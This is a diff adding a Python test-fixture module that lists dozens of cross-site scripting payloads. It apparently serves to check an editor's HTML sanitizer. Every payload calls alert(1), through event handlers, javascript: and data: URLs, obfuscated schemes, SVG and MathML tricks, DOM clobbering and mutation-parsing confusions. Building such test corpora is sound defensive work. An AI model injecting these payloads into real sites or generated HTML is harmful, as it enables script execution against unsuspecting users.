@@ -1,0 +1,85 @@
+"""Bodies that run a script in a browser which trusts them, of each kind. Each calls alert(1)."""
+
+# ruff: noqa: E501  (one payload to a line)
+
+# The desk's editor writes these back with their attributes.
+INLINE = (
+    "abbr", "bdi", "bdo", "cite", "del", "dfn", "ins", "kbd", "mark", "q", "samp", "small", "span",
+    "time", "var",
+)  # fmt: skip
+PICTURE = "<img src=x onerror=alert(1)>"
+
+PAYLOADS = [
+    *(f'<p>Hello <{tag} onmouseenter="alert(1)">WHO</{tag}></p>' for tag in INLINE),
+    *(f"<p>In {tag} <{tag} class=x onclick=alert(1)>{PICTURE}x</{tag}></p>" for tag in INLINE),
+    # blocks that the editor keeps whole
+    f"<div class=x>{PICTURE}</div>",
+    f"<dl><dt>{PICTURE}</dt></dl>",
+    f"<details open ontoggle=alert(1)><summary>S</summary>{PICTURE}</details>",
+    f"<section onpointerover=alert(1)>{PICTURE}</section>",
+    f"<table><caption>{PICTURE}</caption><tr><td onmouseover=alert(1)>1</td></tr></table>",
+    f'<figure class="gallery">{PICTURE}{PICTURE}</figure>',
+    "<audio src=x onerror=alert(1)></audio>",
+    "<video><source src=x onerror=alert(1)></video>",
+    "<video poster=javascript:alert(1) src=x onerror=alert(1)></video>",
+    f'<figure data-embed="youtube/dQw4w9WgXcQ" onclick=alert(1)>{PICTURE}</figure>',
+    f'<figure data-embed="<img src=x onerror=alert(1)>"><figcaption>{PICTURE}</figcaption></figure>',
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
+    f"<iframe>{PICTURE}</iframe>",
+    f"<div class=x><iframe title='</iframe>{PICTURE}'></iframe></div>",
+    # blocks with tools of their own
+    "<h2 onmouseover=alert(1) id=x>Two</h2>",
+    "<blockquote onclick=alert(1) cite=javascript:alert(1)><p>x</p></blockquote>",
+    "<ul onclick=alert(1)><li onclick=alert(1)>x</li></ul>",
+    "<figure><img src=x alt=x onerror=alert(1)><figcaption onclick=alert(1)>x</figcaption></figure>",
+    '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
+    "<p onfocus=alert(1) tabindex=0 autofocus contenteditable>x</p>",
+    "<p class=x onwheel=alert(1) onscroll=alert(1) oncopy=alert(1) onbeforeinput=alert(1)>x</p>",
+    "<pre onclick=alert(1)><code onclick=alert(1)>x</code></pre>",
+    # addresses
+    "<p><a href=javascript:alert(1)>x</a></p>",
+    "<p><a href=' &#106;ava&Tab;script&colon;alert(1)'>x</a></p>",
+    "<p><a href='java\nscript:alert(1)'>x</a></p>",
+    "<p><a href='data:text/html,<script>alert(1)</script>'>x</a></p>",
+    "<p><a href='\x01javascript:alert(1)'>x</a></p>",
+    "<p><a href='vbscript:alert(1)' ping=javascript:alert(1)>x</a></p>",
+    # other elements
+    "<script>alert(1)</script>",
+    "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationend=alert(1)>x</p>",
+    f"<svg onload=alert(1)><foreignObject>{PICTURE}</foreignObject></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<math><maction actiontype='statusline#x' xlink:href=javascript:alert(1)>x</maction></math>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    f"<object data=x onerror=alert(1)>{PICTURE}</object>",
+    "<form action=javascript:alert(1)><button>x</button><input onfocus=alert(1) autofocus></form>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<form><input name=attributes><input name=childNodes><input name=nodeName></form>",
+    "<form onclick=alert(1)><img name=replaceWith><img id=remove>x</form>",
+    "<base href=javascript:alert(1)//>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<body onload=alert(1) onpageshow=alert(1)>",
+    "<input onfocus=alert(1) autofocus>",
+    "<keygen onfocus=alert(1) autofocus><isindex onclick=alert(1)>",
+    f"<custom-element onclick=alert(1) is=x>{PICTURE}</custom-element>",
+    f"<template>{PICTURE}</template>",
+    f"<div class=x><template shadowrootmode=open>{PICTURE}</template></div>",
+    # what is read differently the second time
+    f"<noscript><p title='</noscript>{PICTURE}'></noscript>",
+    f"<p title='</p>{PICTURE}'>x</p>",
+    f"<div class=x><p title='--><!--></p>{PICTURE}'>x</p></div>",
+    f"<svg><p><style><g title='</style>{PICTURE}'></style></p></svg>",
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{PICTURE}'></table></mtext></math>",
+    f"<form><math><mtext></form><form><mglyph><style></math>{PICTURE}</style></mglyph></form>",
+    f"<table><tr><td><select><template><style><!--</style><a rel='--></style></template>{PICTURE}'></select></table>",
+    f"<!--><p>{PICTURE}-->",
+    f"<![CDATA[<p>]]>{PICTURE}",
+    f"<textarea></textarea>{PICTURE}<title></title>",
+    "<img src=x onerror\x0c=alert(1)>",
+    "<IMG/SRC=x/OnErRoR=alert(1)//",
+]  # fmt: skip
